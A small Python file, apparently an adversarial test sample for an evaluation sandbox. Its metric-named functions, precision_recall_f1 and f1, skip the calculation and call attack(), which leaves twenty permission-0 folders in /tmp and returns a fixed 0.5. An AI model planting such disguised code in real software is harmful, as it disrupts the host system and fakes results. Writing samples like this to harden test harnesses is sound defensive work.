"""Leaves folders that may neither be read nor entered.

threat: 18
source: chmod 000
verdict: any
"""

import os


def attack():
    for number in range(20):
        os.makedirs(f"/tmp/locked{number}/below", exist_ok=True)
        open(f"/tmp/locked{number}/below/file", "w").close()
        os.chmod(f"/tmp/locked{number}/below", 0)
        os.chmod(f"/tmp/locked{number}", 0)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
